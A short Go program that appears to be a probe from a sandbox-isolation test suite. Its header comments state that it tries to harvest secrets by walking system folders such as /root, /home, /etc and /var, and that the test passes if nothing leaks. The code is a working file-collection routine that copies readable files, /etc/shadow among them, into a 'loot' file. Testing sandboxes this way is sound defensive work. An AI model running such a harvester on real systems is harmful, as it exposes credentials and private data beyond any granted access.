// attack: Go walks the whole visible file system (skipping /proc and /sys), looking for readable files under /root, /home, /run, /var, /etc and the hidden folder's path, and copies them into the workspace
// category: secrets
// effect: no planted secret or /etc/shadow line appears in the workspace or the output
// via: /root, /home, /run, /var empty; /etc/shadow masked; hidden folder not mounted
// control: yes
package main

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

func main() {
	out, err := os.Create("walk-loot.txt")
	if err != nil {
		return
	}
	defer out.Close()
	n := 0
	for _, root := range []string{"/root", "/home", "/run", "/var", "/etc", "/tmp", os.Getenv("RT_HIDDEN"), filepath.Dir(os.Getenv("RT_WS"))} {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || strings.HasPrefix(p, os.Getenv("RT_WS")) || n > 4000 {
				return nil
			}
			if b, err := os.ReadFile(p); err == nil && len(b) < 64<<10 {
				n++
				out.WriteString("== " + p + "\n")
				out.Write(b)
			}
			return nil
		})
	}
}
